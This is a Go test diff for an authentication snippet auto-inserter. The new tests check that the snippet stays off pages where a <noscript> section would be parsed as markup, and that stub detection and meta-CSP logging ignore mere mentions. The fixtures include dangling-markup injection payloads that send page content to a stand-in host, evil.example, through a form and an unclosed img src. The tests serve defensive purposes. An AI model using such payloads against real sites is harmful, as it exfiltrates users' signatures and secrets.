@@ -304,3 +304,68 @@ func TestAutoInsertFollowsTheTreeBuilder(t *testing.T) {
 	res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, "<html><body><svg><title>t</title></svg></body></html>", "Content-Type", "text/html"))
 	assert.Contains(t, body(t, res), "authenticateUser", "a closed svg is fine")
 }
+
+// TestAutoInsertNoscriptScriptingOff (#31 §2.2): a same-origin iframe sandboxed
+// without allow-scripts reads <noscript> as markup, where an injected form and
+// textarea would take the snippet as the field's text (one click sends the
+// signature). AutoInsert stays out of such a page; a benign <noscript> (a
+// notice, a tag manager's iframe) still gets the snippet.
+func TestAutoInsertNoscriptScriptingOff(t *testing.T) {
+	kit := newKit(t, Config{})
+	for _, page := range []string{
+		`<html><body><p>comment: <noscript><form action="https://evil.example/"><button>Continue</button><textarea name=t></noscript></p></body></html>`,
+		`<html><body><noscript><img src='https://evil.example/?</noscript></body></html>`,
+		`<html><head><noscript><!--</noscript>--></head><body></body></html>`,
+	} {
+		res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html"))
+		assert.Equal(t, page, body(t, res), "%q", page)
+	}
+	signedIn := renderFor(t, kit, "amy@example.com", embedOf(kit))
+	for _, page := range []string{
+		`<html><body><noscript><p>This page needs JavaScript.</p></noscript><p>hi</p></body></html>`,
+		`<html><body><noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" width="0" style="display:none"></iframe></noscript></body></html>`,
+		`<html><head><noscript><link rel=stylesheet href=/nojs.css></noscript></head><body></body></html>`,
+	} {
+		res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html"))
+		assert.Equal(t, strings.Replace(page, "</body>", signedIn+"</body>", 1), body(t, res), "%q", page)
+	}
+}
+
+// TestAutoInsertFacts: the stub counts only where it runs (a script's text),
+// and a <meta> CSP is logged only where a browser reads one: text that merely
+// mentions them changes nothing.
+func TestAutoInsertFacts(t *testing.T) {
+	logger, logs := testLogger()
+	kit := newKit(t, Config{Logger: logger})
+	for _, page := range []string{
+		"<html><body><!-- " + stubJS + " --><p title='" + stubJS + "'>" + stubJS + "</p></body></html>",
+		`<html><body><textarea><meta http-equiv="Content-Security-Policy" content="x"></textarea><!-- <meta http-equiv=content-security-policy> --></body></html>`,
+		`<html><head><meta http-equiv="refresh" content="5" data-x="http-equiv=content-security-policy"></head><body></body></html>`,
+	} {
+		res := serveAuto(t, kit, "GET", "amy@example.com", htmlHandler(200, page, "Content-Type", "text/html"))
+		assert.Contains(t, body(t, res), "authenticateUser", "%q", page)
+	}
+	assert.NotContains(t, logs.String(), "<meta http-equiv", "no <meta> CSP on these pages")
+
+	split := func(page string) http.HandlerFunc { // the stub split across writes
+		return func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Type", "text/html")
+			for i := range len(page) {
+				_, _ = io.WriteString(w, page[i:i+1])
+			}
+		}
+	}
+	page := "<html><head><script>" + stubJS + "</script></head><body></body></html>"
+	assert.Equal(t, page, body(t, serveAuto(t, kit, "GET", "amy@example.com", split(page))), "a stub pasted by hand: nothing inserted")
+	page = `<html><head><meta http-equiv=content&#45;security&#45;policy content="script-src 'self'"></head><body></body></html>`
+	serveAuto(t, kit, "GET", "amy@example.com", split(page))
+	assert.Contains(t, logs.String(), "<meta http-equiv", "a <meta> CSP, however written, is logged")
+}
+
+// TestStubIsTheTemplates: stubJS is what snippet.tmpl renders, and its hash,
+// which apps copy into their policies, has not moved.
+func TestStubIsTheTemplates(t *testing.T) {
+	kit := newKit(t, Config{})
+	assert.Contains(t, renderFor(t, kit, "", embedOf(kit)), "<script>"+stubJS+"</script>")
+	assert.Equal(t, "'sha256-hpWTnmvbG9F+G7Bn2hxNZquXDTMhv4QDRmnrbwBD+wY='", StubCSPSource())
+}
